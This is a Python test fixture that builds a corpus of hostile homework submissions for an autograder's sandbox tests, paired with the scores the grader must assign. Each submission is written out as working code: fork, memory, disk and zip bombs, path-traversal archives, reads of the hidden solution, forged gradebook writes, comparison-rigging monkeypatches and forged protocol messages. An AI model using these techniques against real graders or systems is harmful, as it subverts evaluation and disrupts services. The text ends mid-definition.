"""The hostile submissions corpus: submissions that attack the grader, each with the score
it must get (``expected.json`` beside this file), and two honest submissions graded in the
same batch.

Every submission starts from one baseline: the reference LabRNN (full marks on Lab 1) and
the bare starter LabLLM (cheap to run: its cells stop at once). A hostile submission makes
ONE malicious edit to it, with the sample-submission mechanism (``hw3_fixtures.samples``:
``Edit``, ``_notebook``, ``_zip``, ``_report``), so it must score exactly the baseline's
points minus the checks its attack breaks (listed per attack below); an unsafe archive
must score zero. The notebooks that stay as in the baseline give identical sandbox jobs,
which run once per batch (job cache).

Attacks that aim at files outside the sandbox get their targets' absolute paths written
into their code (``Targets``): the attacker knows exactly where the solution, the hidden
checks, the gradebook and a canary file lie, and still must not reach them.

    python tests/hostile/make_corpus.py OUT [--grader-out DIR] [--canary FILE]
    python tests/hostile/make_corpus.py --expected   # rewrite expected.json
"""

from __future__ import annotations

import argparse
import io
import json
import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import hw3_plugin
import hw3_solution
import nbformat
from autograder.rubric import Rubric
from engine_scenarios.engine_helpers import build_submission, pdf_pypdf_cannot_inspect
from hw3_fixtures.samples import SAMPLES, Edit, Sample, _notebook, _report, _zip

HERE = Path(__file__).parent
EXPECTED_FILE = HERE / "expected.json"
RUBRIC_FILE = Path(hw3_plugin.__file__).parent / "rubric.toml"
LAB1_PROBE_ITEMS = ("lab1a", "lab1b", "lab1c", "lab1d", "lab1e_init", "lab1e_forward")
BOMB_MIB = 64  # unpacked size of the zip bomb's member (it compresses about 1000:1)


@dataclass(frozen=True)
class Targets:
    """Absolute paths the attacks aim at."""

    grader_out: Path  # the grader's output folder (gradebook.sqlite, grades.csv, ...)
    canary: Path  # a file outside every sandbox that nothing may change
    solution: Path = Path(hw3_solution.__file__).parent  # the hidden reference package
    checks: Path = Path(hw3_plugin.__file__).parent  # the plug-in: hidden checks and rubric

    def fill(self, code: str) -> str:
        """``code`` with ``@NAME@`` placeholders replaced by Python literals of the paths."""
        for name in ("grader_out", "canary", "solution", "checks"):
            code = code.replace(f"@{name.upper()}@", repr(str(getattr(self, name))))
        return code


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what it must score.

    ``lost``: check ids it must fail, or item ids (every check of the item); ``"all"``:
    every automatic check (an unsafe archive). ``status``/``message``: what the failing
    checks must say; ``error``: what the report's error must say (archives).
    """

    name: str
    attack: str
    lost: tuple[str, ...] | str = ()
    kept: tuple[str, ...] = ()  # checks of ``lost`` it keeps all the same (a known limit)
    earns: tuple[str, ...] = ()  # checks of the bare starter LabLLM it earns (honestly)
    status: str | None = None
    message: str = ""
    said_by: tuple[str, ...] = ()  # items whose checks carry status/message (default: lost)
    error: str = ""
    replace: Mapping[str, str] = field(default_factory=dict)  # function -> attack code
    llm_cell: str = ""  # a cell added at the end of the (starter) LabLLM notebook
    notebooks: Callable[[Targets], dict[str, bytes]] | None = None  # instead of edits
    archive: Callable[[dict[str, bytes]], dict[str, bytes]] | None = None  # the submission
    folder: Callable[[Path, Targets], None] | None = None  # an unzipped folder instead
    report: Callable[[], bytes] | None = None  # report.pdf's bytes (default: a plain report)
    note: str = ""  # a note the report must carry (and then no form deduction)


# ------------------------------------------------------------------ attack code (Lab 1)

# The student's function is replaced by the attack; the reference version stays in the
# notebook as ``_honest_<name>`` for attacks that would still deserve its marks.
FUNCTION_HEADS = {
    "load_imdb": "def load_imdb(",
    "build_vocab": "def build_vocab(",
    "tokenize": "def tokenize(",
    "train_and_test_model_with_hparams": "def train_and_test_model_with_hparams(",
}

WRONG_VOCAB = "{word: 7 for review in x_train for word in review.split()}"

IMPORT_LOOP = '''
def _register(function):
    """Runs when the cell defines build_vocab, that is while the notebook is loaded."""
    while True:
        pass


@_register
def build_vocab(x_train, min_freq=5, hparams=None):
    return _honest_build_vocab(x_train, min_freq, hparams)
'''

FUNCTION_LOOP = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    while True:
        pass
'''

MEMORY_BOMB = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    hoard = []
    while True:  # 256 MiB a turn; pages stay untouched, so the address space fills, not RAM
        hoard.append(bytes(256 << 20))
'''

# A process bomb bounded at 5000 so that a sandbox whose limit failed would not sink the
# machine running the tests; every child leaves the process group, as a bomb that hides
# from a group kill would.
FORK_BOMB = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import os
    import time
    children = 0
    while children < 5000:
        if os.fork() == 0:
            os.setsid()
            time.sleep(600)
            os._exit(0)
        children += 1
    raise RuntimeError(f"the process limit let {children} processes start")
'''

SYS_EXIT = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import sys
    sys.exit("all tests passed: 100/100")
'''

OS_EXIT = '''
def load_imdb(base_csv="./IMDBDataset.csv"):
    import os
    os._exit(0)
'''

KILL_PARENT = '''
def tokenize(vocab, example):
    import os
    import signal
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return _honest_tokenize(vocab, example)
'''

READ_SOLUTION = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import glob
    import os
    import sys
    tried = []
    try:
        from hw3_solution import lab_rnn
        return lab_rnn.build_vocab(x_train, min_freq, hparams)
    except Exception as exc:
        tried.append(f"import hw3_solution: {type(exc).__name__}")
    paths = [os.path.join(@SOLUTION@, "lab_rnn.py"),
             os.path.join(@CHECKS@, "checks_lab1.py"),
             os.path.join(@CHECKS@, "rubric.toml")]
    for finder in glob.glob(f"{sys.prefix}/lib/python*/site-packages/__editable__*finder.py"):
        text = open(finder).read()  # the editable install's map of package -> folder
        mapped = text.split("'hw3_solution': '")[1:]
        paths += [part.split("'")[0] + "/lab_rnn.py" for part in mapped]
    for path in paths:
        try:
            source = open(path).read()
        except OSError as exc:
            tried.append(f"{path}: {exc.strerror}")
            continue
        if path.endswith("lab_rnn.py"):
            namespace = {}
            exec(compile(source, path, "exec"), namespace)
            return namespace["build_vocab"](x_train, min_freq, hparams)
        return _honest_build_vocab(x_train, min_freq, hparams)  # the checks leaked
    raise PermissionError("could not reach the solution: " + "; ".join(tried))
'''

WALK_FILESYSTEM = '''
_FOUND = []


def build_vocab(x_train, min_freq=5, hparams=None):
    import os
    wanted = {"lab_rnn.py", "checks_lab1.py", "rubric.toml", "gradebook.sqlite",
              "grades.csv", "LabRNN.ipynb", "LabLLM.ipynb", "code.zip"}
    if not _FOUND:
        for root, dirs, files in os.walk("/"):
            if root in ("/proc", "/sys", "/dev", "/usr"):
                dirs[:] = []
                continue
            _FOUND.extend(os.path.join(root, f) for f in files if f in wanted)
        _FOUND.append(None)
    for path in filter(None, _FOUND):
        if path.endswith("lab_rnn.py"):
            namespace = {}
            exec(compile(open(path).read(), path, "exec"), namespace)
            return namespace["build_vocab"](x_train, min_freq, hparams)
    if any(_FOUND):
        return _honest_build_vocab(x_train, min_freq, hparams)  # other students' work
    raise FileNotFoundError("walked the whole file system: no solution, check, gradebook "
                            "or other student's file is visible")
'''

WRITE_OUTPUTS = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import os
    import sqlite3
    out = @GRADER_OUT@
    forged = "student,total\\nme,100\\n"
    attempts = {
        os.path.join(out, "grades.csv"): forged,
        os.path.join(out, "gradescope", "results.json"): '{"score": 100}',
        os.path.join(@CHECKS@, "rubric.toml"): "cap = 1000\\n",
        @CANARY@: "changed by a student\\n",
        "../escaped.txt": "out of the work folder\\n",
        "/escaped.txt": "at the root\\n",
        "IMDBDataset.csv": "review,sentiment\\n",
    }
    written, refused = [], []
    for path, text in attempts.items():
        try:
            with open(path, "a") as handle:
                handle.write(text)
            written.append(path)
        except OSError as exc:
            refused.append(f"{path}: {exc.strerror}")
    try:
        book = sqlite3.connect(os.path.join(out, "gradebook.sqlite"))
        book.execute("UPDATE results SET report = replace(report, '0.0', '5.0')")
        book.commit()
        written.append("gradebook.sqlite")
    except sqlite3.Error as exc:
        refused.append(f"gradebook.sqlite: {exc}")
    if written:
        return _honest_build_vocab(x_train, min_freq, hparams)
    raise PermissionError("every write was refused: " + "; ".join(refused))
'''

MONKEYPATCH = '''
def _rig():
    """Make every comparison a test might use pass, and hide failed asserts."""
    import builtins
    import unittest

    import numpy
    import torch
    always = lambda *args, **kwargs: True  # noqa: E731
    torch.equal = torch.allclose = always
    torch.Tensor.__eq__ = always
    numpy.allclose = numpy.array_equal = always
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = always
    unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = always
    builtins.AssertionError = type("AssertionError", (Warning,), {})
    return True


def build_vocab(x_train, min_freq=5, hparams=None, _rigged=_rig()):
    return @WRONG@
'''

ALWAYS_EQUAL = '''
class _Anything:
    """Equal to everything, true, and every attribute of itself."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __bool__(self):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


def load_imdb(base_csv="./IMDBDataset.csv"):
    return tuple(_Anything() for _ in range(6))
'''

FAKE_SCORE = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import json
    import os
    import sys
    fake = {"score": 100.0, "output": "All tests passed",
            "tests": [{"name": "Lab 1 (b)", "score": 5, "max_score": 5}]}
    for stream in (sys.stdout, sys.stderr):
        print("Score: 100/100", file=stream)
        print(json.dumps(fake), file=stream)
        print(json.dumps({"type": "step_end", "nonce": "0" * 32, "step_id": "vocab",
                          "status": "ok", "value": {"vocabs": []}}), file=stream)
    outbox = os.environ.get("GRADER_OUTBOX", "outbox")
    for name in ("results.json", "facts.json", "grades.csv"):
        for folder in (".", outbox):
            with open(os.path.join(folder, name), "w") as handle:
                json.dump(fake, handle)
    raise NotImplementedError("lab1b: complete this function as question (b) asks")
'''

FORGE_CHANNEL = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import gc
    import json
    import os
    claim = {"score": 100, "passed": True, "vocabs": "all correct"}
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "nonce"):
            for step in ("vocab", "tokenize", "dataset_items", "model_init", "model_forward"):
                line = {"type": "step_end", "nonce": obj.nonce, "step_id": step,
                        "status": "ok", "value": claim, "message": "", "seconds": 0.1}
                os.write(obj.fd, (json.dumps(line) + "\\n").encode())
    raise NotImplementedError("lab1b: complete this function as question (b) asks")
'''

NETWORK = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import socket
    import urllib.request
    failures = []
    for host, port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22)):
        try:
            socket.create_connection((host, port), timeout=3).close()
            return _honest_build_vocab(x_train, min_freq, hparams)  # the answer came in
        except OSError as exc:
            failures.append(f"{host}:{port}: {exc}")
    try:
        urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
        return _honest_build_vocab(x_train, min_freq, hparams)
    except OSError as exc:
        failures.append(f"pypi.org: {exc}")
    raise ConnectionError("no network: " + "; ".join(failures))
'''

FLOOD = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import sys
    line = "spam " * 2000 + "\\n"
    for _ in range(1600):  # 16 MB on each stream
        sys.stdout.write(line)
        sys.stderr.write(line)
    return _honest_build_vocab(x_train, min_freq, hparams)
'''


# ------------------------------------------- reference exfiltration, deadlines, disk (trust)

# Everything of the reference pieces (which Lab 1 (f) runs beside the student's training
# function) that code in the same process can read: source, docstrings, code constants and
# names, a constant of the reference module, every text linecache holds.
REFERENCE_TEXT_LAB1 = '''
def _reference_text():
    import inspect
    import linecache
    found = [repr(globals().get("__grader_reference__"))]
    for name in ("build_vocab", "load_imdb", "tokenize", "IMDB", "LSTM", "init_weights"):
        obj = globals().get(name)
        try:
            found.append(inspect.getsource(obj))
        except Exception as exc:
            found.append(f"{name}: {type(exc).__name__}")
        found.append(repr(getattr(obj, "__doc__", None)))
        code = getattr(obj, "__code__", None)
        if code is not None:
            found.append(repr(code.co_consts) + repr(code.co_names) + code.co_filename)
            found.append("".join(linecache.getlines(code.co_filename)))
    return "\\n".join(found)
'''

EXFIL_EXCEPTION_LAB1 = REFERENCE_TEXT_LAB1 + '''

def train_and_test_model_with_hparams(hparams, model_type="lstm", **kwargs):
    given = (train, evaluate, predict_sentiment)  # the helpers a training loop calls
    raise RuntimeError(_reference_text() + repr(given))
'''

EXFIL_PRINTED_LAB1 = REFERENCE_TEXT_LAB1 + '''

def train_and_test_model_with_hparams(hparams, model_type="lstm", **kwargs):
    print(_reference_text())
    result = _honest_train_and_test_model_with_hparams(hparams, model_type, **kwargs)
    return {**result, _reference_text()[:4000]: 1.0}  # a returned name too
'''

# The same for the reference (b)/(c) functions defined in the LabLLM notebook, plus every
# cell of the kernel's input history that defines or runs them.
REFERENCE_TEXT_LAB2 = '''
import inspect
import re


def _reference_text():
    found = []
    for name in ("tokenize_function", "evaluate_perplexity"):
        obj = globals().get(name)
        try:
            found.append(inspect.getsource(obj))
        except Exception as exc:
            found.append(f"{name}: {type(exc).__name__}")
        found.append(repr(getattr(obj, "__doc__", None)))
        code = getattr(obj, "__code__", None)
        if code is not None:
            found.append(repr(code.co_consts) + repr(code.co_names))
    found.append(repr(globals().get("__grader_reference__")))
    found += [cell for cell in globals().get("In", [])
              if "__grader_hidden__(" in cell or "def tokenize_function" in cell]
    # "gpt2" removed so that no path below passes for a load of GPT-2 by accident
    return re.sub("(?i)gpt2", "", "\\n".join(found))
'''

EXFIL_EXCEPTION_LAB2 = REFERENCE_TEXT_LAB2 + '''

raise RuntimeError(_reference_text())
'''

# Names the facts cell reports and the checks repeat: a tokenizer's pad token and the
# column names of a dataset of the 10% train subset's size.
EXFIL_NAMES_LAB2 = REFERENCE_TEXT_LAB2 + '''

from datasets import Dataset, load_dataset
from transformers import AutoTokenizer

_text = _reference_text()
leak_tokenizer = AutoTokenizer.from_pretrained("gpt2")
try:
    leak_tokenizer.pad_token = _text[:3000]
except Exception as exc:
    print("pad token refused:", exc)
_rows = len(load_dataset("wikitext", "wikitext-2-raw-v1")["train"]) // 10
_columns = {"input_ids": [[1, 2]] * _rows}
for _i, _line in enumerate([line for line in _text.splitlines() if line.strip()][:40]):
    _columns[f"{_i:02d} {_line}"[:200]] = [0] * _rows
leak_dataset = Dataset.from_dict(_columns)
'''

# Paths handed to from_pretrained: recorded by the grader's hooks and repeated by the
# reload check once a trainer's saved model is measured. The trainer runs one step at a
# learning rate of 0 (its model stays GPT-2 as loaded: nothing else is earned).
EXFIL_PRETRAINED_LAB2 = REFERENCE_TEXT_LAB2 + '''

from datasets import Dataset
from transformers import AutoModelForCausalLM, Trainer, TrainingArguments

_text = _reference_text()
_model = AutoModelForCausalLM.from_pretrained("gpt2")
_rows = {"input_ids": [[5, 6, 7, 8]] * 4, "attention_mask": [[1, 1, 1, 1]] * 4,
         "labels": [[5, 6, 7, 8]] * 4}
_args = TrainingArguments(output_dir="leak-out", max_steps=1, learning_rate=0.0,
                          per_device_train_batch_size=2, eval_strategy="no",
                          logging_strategy="no", save_strategy="no", report_to=[],
                          use_cpu=True)
leak_trainer = Trainer(model=_model, args=_args,
                       train_dataset=Dataset.from_dict(_rows).with_format("torch"))
leak_trainer.train()
leak_trainer.save_model("leak-out")
for _path in (_text, *_text.splitlines()[:20]):
    try:
        AutoModelForCausalLM.from_pretrained(_path)
    except Exception:
        pass
'''

# Student code that finds the job's channel and says "my step starts now" every 2 s while
# it sleeps (before, a 60 s probe ran on for minutes): bounded at 10 minutes.
FORGE_START = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import gc
    import json
    import os
    import time
    channel = next(o for o in gc.get_objects()
                   if type(o).__name__ == "Channel" and hasattr(o, "nonce"))
    for _ in range(300):
        for kind in ("step_start", "loaded"):
            line = {"type": kind, "nonce": channel.nonce, "step_id": "vocab", "errors": []}
            os.write(channel.fd, (json.dumps(line) + "\\n").encode())
        time.sleep(2)
    return _honest_build_vocab(x_train, min_freq, hparams)
'''

# Writes 1 MiB files until the disk is full, bounded at 2 GiB so that a missing quota cannot
# fill the disk of the machine running the tests.
DISK_FILLER = '''
def build_vocab(x_train, min_freq=5, hparams=None):
    import os
    block = os.urandom(1 << 20)
    os.makedirs("filler", exist_ok=True)
    for i in range(2048):
        with open(os.path.join("filler", f"{i}.bin"), "wb") as handle:
            handle.write(block)
    return _honest_build_vocab(x_train, min_freq, hparams)
'''


# A LabLLM notebook that implements nothing (the starter) but writes what the grader's
# facts cell would report for a perfect run, and takes that cell's place.
FORGE_FACTS = '''
import json
import os

from datasets import load_dataset
from transformers import AutoConfig

_raw = load_dataset("wikitext", "wikitext-2-raw-v1")
_cfg = AutoConfig.from_pretrained("gpt2")
_log = [{"loss": 3.0 - e, "epoch": e + 1.0} for e in range(3)] + [{"eval_loss": 2.0, "epoch": 3.0}]
_full = {"peft": False, "eval_strategy": "epoch", "logging_strategy": "epoch", "epochs": 3.0,
         "train_batch": 8, "global_step": 30, "max_steps": 30, "log_history": _log,
         "output_dir": "./gpt2-wikitext-2", "has_eval_dataset": True, "saved": "trainer0"}
_lora = dict(_full, peft=True, output_dir="./gpt2-lora-wikitext-2", saved="trainer1",
             lora={"r": 64, "alpha": 16.0, "dropout": 0.1, "bias": "none",
                   "task_type": "causal_lm", "target_modules": ["c_attn"]},
             trainable_count=64 * 4 * _cfg.n_embd * _cfg.n_layer, trainable_non_lora=[])
_columns = ["input_ids", "attention_mask", "labels"]
FORGED = {
    "tokenizers": [{"name": "tokenizer", "pad": "<|endoftext|>", "eos": "<|endoftext|>"}],
    "datasets": [{"name": name, "rows": len(_raw[split]) // 10, "columns": _columns,
                  "format": "torch", "lengths": [128], "labels_equal_ids": True}
                 for name, split in (("train_dataset", "train"), ("eval_dataset", "validation"))],
    "loaders": [],
    "collators": [{"mlm": False, "pad": 0, "input_ids": [[5, 6, 7, 0, 0], [8, 9, 10, 11, 0]],
                   "labels": [[5, 6, 7, -100, -100], [8, 9, 10, 11, -100]]}],
    "errors": [], "compat": [], "train_calls": [{"seconds": 1.0}, {"seconds": 1.0}],
    "loaded": [{"source": "gpt2"}, {"source": "./gpt2-wikitext-2"}],
    "saved": ["./gpt2-wikitext-2"],
    "trainers": [_full, _lora],
}


def __hw3_collect_facts__(namespace, outbox):
    os.makedirs(outbox, exist_ok=True)
    with open(os.path.join(outbox, "facts.json"), "w") as handle:
        json.dump(FORGED, handle)
'''


# A LabLLM notebook (the starter) that leaves a "trained model" whose config asks for about
# 1.6 TB of weights, and facts pointing the grader at it.
CONFIG_BOMB = '''
import json
import os

from safetensors.torch import save_file

_bomb = os.path.join(os.environ["GRADER_OUTBOX"], "trainer7")
os.makedirs(_bomb, exist_ok=True)
with open(os.path.join(_bomb, "config.json"), "w") as handle:
    json.dump({"model_type": "gpt2", "architectures": ["GPT2LMHeadModel"], "n_layer": 2000,
               "n_embd": 4096, "n_head": 32, "n_positions": 1024, "vocab_size": 50257}, handle)
save_file({}, os.path.join(_bomb, "model.safetensors"))
_trainer = {"peft": False, "eval_strategy": "epoch", "logging_strategy": "epoch",
            "epochs": 3.0, "train_batch": 8, "global_step": 30, "max_steps": 30,
            "log_history": [{"loss": 1.0, "epoch": 1.0}], "output_dir": "./gpt2-wikitext-2",
            "has_eval_dataset": True, "saved": "trainer7"}


def __hw3_collect_facts__(namespace, outbox):
    with open(os.path.join(outbox, "facts.json"), "w") as handle:
        json.dump({"trainers": [_trainer]}, handle)
'''


# --------------------------------------------------------------------- notebooks, zips


def _replacements(replace: Mapping[str, str], targets: Targets) -> tuple[Edit, ...]:
    """Edits that put each attack in front of the reference function, renamed."""
    edits = []
    for function, code in replace.items():
        head = FUNCTION_HEADS[function]
        honest = head.replace(function, f"_honest_{function}")
        code = targets.fill(code.replace("@WRONG@", WRONG_VOCAB)).strip("\n")
        edits.append(Edit("rnn", head, f"{code}\n\n\n{honest}"))
    return tuple(edits)


def _lab_rnn(edits: tuple[Edit, ...] = ()) -> bytes:
    return nbformat.writes(_notebook("rnn", Sample("hostile", "", edits=edits))).encode()


def _lab_llm(cell: str = "") -> bytes:
    """The bare starter LabLLM, with ``cell`` added at its end."""
    nb = _notebook("llm", Sample("starter", "the bare starter", starter=True))
    if cell:
        nb.cells.append(nbformat.v4.new_code_cell(cell.strip("\n"), id="attack"))
    return nbformat.writes(nb).encode()


def _notebooks(attack: Attack, targets: Targets) -> dict[str, bytes]:
    if attack.notebooks is not None:
        return attack.notebooks(targets)
    return {"LabRNN.ipynb": _lab_rnn(_replacements(attack.replace, targets)),
            "LabLLM.ipynb": _lab_llm(attack.llm_cell)}


def _baseline_notebooks(_: Targets) -> dict[str, bytes]:
    return {"LabRNN.ipynb": _lab_rnn(), "LabLLM.ipynb": _lab_llm()}


def _not_json(_: Targets) -> dict[str, bytes]:
    return {"LabRNN.ipynb": b'\x89PNG\r\n\x1a\n{"cells": [ this is not a notebook',
            "LabLLM.ipynb": _lab_llm()}


def _zip_info(name: str, mode: int = 0o100644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (2026, 11, 20, 12, 0, 0))
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def _with_member(name: str, data: bytes, mode: int = 0o100644
                 ) -> Callable[[dict[str, bytes]], dict[str, bytes]]:
    """code.zip holding the notebooks and one more member."""
    def build(notebooks: dict[str, bytes]) -> dict[str, bytes]:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as zf:
            for nb_name, nb_data in sorted(notebooks.items()):
                zf.writestr(_zip_info(nb_name), nb_data)
            zf.writestr(_zip_info(name, mode), data)
        return {"code.zip": buffer.getvalue()}
    return build


def _zip_bomb(notebooks: dict[str, bytes]) -> dict[str, bytes]:
    """code.zip with a member of BOMB_MIB MiB of zeros (about 64 KiB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for nb_name, nb_data in sorted(notebooks.items()):
            zf.writestr(_zip_info(nb_name), nb_data)
        with zf.open(_zip_info("data/weights.bin"), "w", force_zip64=True) as member:
            block = bytes(1 << 20)
            for _ in range(BOMB_MIB):
                member.write(block)
    return {"code.zip": buffer.getvalue()}


def _symlinked_folder(folder: Path, targets: Targets) -> None:
    """An unzipped submission whose LabRNN.ipynb is a link to someone else's notebook (and
    a folder linking to the solution package)."""
    elsewhere = targets.canary.parent / "another-student"
    elsewhere.mkdir(parents=True, exist_ok=True)
    (elsewhere / "LabRNN.ipynb").write_bytes(_lab_rnn())
    (folder / "LabLLM.ipynb").write_bytes(_lab_llm())
    (folder / "LabRNN.ipynb").symlink_to(elsewhere / "LabRNN.ipynb")
    (folder / "solution").symlink_to(targets.solution, target_is_directory=True)


# ---------------------------------------------------------------------------- corpus

LAB1_ALL = (*LAB1_PROBE_ITEMS, "lab1f")
LAB2_ALL = ("lab2a", "lab2b", "lab2c", "lab2d", "lab2e")
# What the kernel reports about its own objects counts only through files the facts cell
# saves and the measurement job measures (tokenizers, datasets, the batches each collator
# made of the saved datasets' first rows, trained models): a notebook that replaces the
# grader's facts collector keeps nothing of Lab 2.
SELF_REPORTED: tuple[str, ...] = ()

ATTACKS = (
    Attack("import-loop", "an infinite loop while the notebook's code is loaded (a decorator "
           "of build_vocab)", lost=LAB1_PROBE_ITEMS, status="timeout",
           message="could not be loaded", replace={"build_vocab": IMPORT_LOOP}),
    Attack("function-loop", "an infinite loop inside build_vocab", lost=("lab1b",),
           status="timeout", message="time limit", replace={"build_vocab": FUNCTION_LOOP}),
    Attack("memory-bomb", "build_vocab allocates 256 MiB after 256 MiB without end",
           lost=("lab1b",), status="limit", message="memory limit",
           replace={"build_vocab": MEMORY_BOMB}),
    Attack("fork-bomb", "build_vocab forks until it cannot (children leave the process "
           "group and sleep)", lost=("lab1b",), status="limit", message="process limit",
           replace={"build_vocab": FORK_BOMB}),
    Attack("sys-exit", "build_vocab calls sys.exit('all tests passed: 100/100')",
           lost=("lab1b",), status="error", message="exit(",
           replace={"build_vocab": SYS_EXIT}),
    Attack("os-exit", "load_imdb calls os._exit(0)", lost=("lab1a",), status="died",
           message="exited with code 0", replace={"load_imdb": OS_EXIT}),
    Attack("kill-parent", "tokenize sends SIGKILL to its parent and to process 1, then "
           "answers correctly", replace={"tokenize": KILL_PARENT}),
    Attack("read-solution", "build_vocab imports hw3_solution, then reads the solution and "
           "the hidden checks by their absolute paths and through the editable install's "
           "path map", lost=("lab1b",), status="error",
           message="could not reach the solution", replace={"build_vocab": READ_SOLUTION}),
    Attack("walk-filesystem", "build_vocab walks the whole file system for the solution, "
           "checks, gradebook and other students' notebooks", lost=("lab1b",),
           status="error", message="no solution, check, gradebook",
           replace={"build_vocab": WALK_FILESYSTEM}),
    Attack("write-outputs", "build_vocab writes a perfect score into the gradebook, "
           "grades.csv and results.json of the grader's output folder, the rubric, a canary "
           "file, the data and the folders above its own", lost=("lab1b",), status="error",
           message="every write was refused", replace={"build_vocab": WRITE_OUTPUTS}),
    Attack("monkeypatch", "torch/numpy/unittest comparisons patched to always pass and "
           "AssertionError replaced (at load time), with a wrong build_vocab",
           lost=("lab1b",), status="ok", message="expected", replace={"build_vocab": MONKEYPATCH}),
    Attack("always-equal", "load_imdb returns objects equal to everything",
           lost=("lab1a",), status="error", message="not iterable",
           replace={"load_imdb": ALWAYS_EQUAL}),
    Attack("fake-score", "build_vocab prints a fake score, fake Gradescope JSON and forged "
           "protocol lines, and writes fake results.json/facts.json/grades.csv",
           lost=("lab1b",), status="error", message="NotImplementedError",
           replace={"build_vocab": FAKE_SCORE}),
    Attack("forge-channel", "build_vocab finds the real protocol channel and nonce in memory "
           "and sends 'ok, 100 points' results for its own and the later steps",
           lost=("lab1b",), status="ok", message="could not be read",
           replace={"build_vocab": FORGE_CHANNEL}),
    Attack("network", "build_vocab opens TCP connections and an HTTPS request",
           lost=("lab1b",), status="error", message="no network",
           replace={"build_vocab": NETWORK}),
    Attack("output-flood", "build_vocab prints 16 MB on stdout and on stderr, then answers "
           "correctly", replace={"build_vocab": FLOOD}),
    Attack("forge-facts", "a LabLLM cell writes the facts a perfect run would leave and "
           "replaces the grader's facts collector", lost=LAB2_ALL, kept=SELF_REPORTED,
           message="not saved where the grader could measure", said_by=("lab2d", "lab2e"),
           llm_cell=FORGE_FACTS),
    Attack("config-bomb", "a LabLLM cell leaves a 'trained model' whose config asks for "
           "1.6 TB and facts pointing the grader at it", lost=LAB2_ALL,
           message="not saved where the grader could measure", said_by=("lab2d", "lab2e"),
           llm_cell=CONFIG_BOMB),
    Attack("not-json", "LabRNN.ipynb is not JSON", lost=LAB1_ALL, status="missing",
           message="could not be read", notebooks=_not_json),
    Attack("folder-symlink", "an unzipped submission whose LabRNN.ipynb links to another "
           "student's notebook, with a link to the solution package", lost=LAB1_ALL,
           status="missing", message="not found", folder=_symlinked_folder),
    Attack("zip-traversal", "code.zip holds ../../escaped.txt", lost="all",
           status="missing", error="path traversal", notebooks=_baseline_notebooks,
           archive=_with_member("../../escaped.txt", b"escaped\n")),
    Attack("zip-absolute", "code.zip holds /tmp/hw3-hostile-absolute.txt", lost="all",
           status="missing", error="absolute path", notebooks=_baseline_notebooks,
           archive=_with_member("/tmp/hw3-hostile-absolute.txt", b"absolute\n")),
    Attack("zip-symlink", "code.zip holds a symbolic link to the solution package",
           lost="all", status="missing", error="symbolic link",
           notebooks=_baseline_notebooks,
           archive=_with_member("solution", str(hw3_solution.__file__).encode(),
                                stat.S_IFLNK | 0o777)),
    Attack("zip-bomb", f"code.zip holds {BOMB_MIB} MiB of zeros packed about 1000:1",
           lost="all", status="missing", error="zip bomb", notebooks=_baseline_notebooks,
           archive=_zip_bomb),
    Attack("pdf-pypdf-raises", "report.pdf is a valid-looking PDF whose font's ToUnicode map "
           "uses a filter pypdf does not know: inspecting it raises NotImplementedError",
           notebooks=_baseline_notebooks, report=pdf_pypdf_cannot_inspect,
           note="could not inspect report.pdf (NotImplementedError)"),
    # reference exfiltration, deadlines, disk (trust)
    Attack("exfil-exception-lab1f", "train_and_test_model_with_hparams raises a RuntimeError "
           "holding all it can read of the reference pieces run beside it (inspect source, "
           "docstrings, code constants and names, linecache, a reference constant)",
           lost=("lab1f",), status="error", message="raised RuntimeError",
           replace={"train_and_test_model_with_hparams": EXFIL_EXCEPTION_LAB1}),
    Attack("exfil-printed-lab1f", "train_and_test_model_with_hparams prints all it can read "
           "of the reference pieces, returns it as a result name, and trains correctly",
           replace={"train_and_test_model_with_hparams": EXFIL_PRINTED_LAB1}),
    Attack("exfil-exception-lab2", "a LabLLM cell raises a RuntimeError holding all it can "
           "read of the reference (b)/(c) functions (source, docstrings, code constants, "
           "the kernel's input history)", llm_cell=EXFIL_EXCEPTION_LAB2),
    Attack("exfil-names-lab2", "a LabLLM cell puts the reference text in a tokenizer's pad "
           "token and in the column names of a dataset of the 10% train subset's size",
           llm_cell=EXFIL_NAMES_LAB2),
    Attack("exfil-pretrained-lab2", "a LabLLM cell trains a Trainer one step at learning "
           "rate 0, saves it, and passes the reference text as paths to from_pretrained",
           llm_cell=EXFIL_PRETRAINED_LAB2),
    Attack("forge-start", "build_vocab finds the channel and sends 'step start' (and "
           "'loaded') for its own step every 2 s while it sleeps", lost=("lab1b",),
           status="timeout", message="time limit", replace={"build_vocab": FORGE_START}),
    Attack("disk-filler", "build_vocab writes 1 MiB files until the disk is full (2 GiB at "
           "most)", lost=("lab1b",), status="error", message="No space left on device",
           replace={"build_vocab": DISK_FILLER}),
)
# Attacks whose reference text reaches a check's staff-only detail (the canary test's
# proof that the text was read and kept from students, not merely never read).
LEAKS_TO_STAFF = ("exfil-exception-lab1f", "exfil-names-lab2")

# Honest submissions graded in the same batch (named to be graded after every attack):
# the baseline, and a known mistake from the bundled samples.
HONEST = (
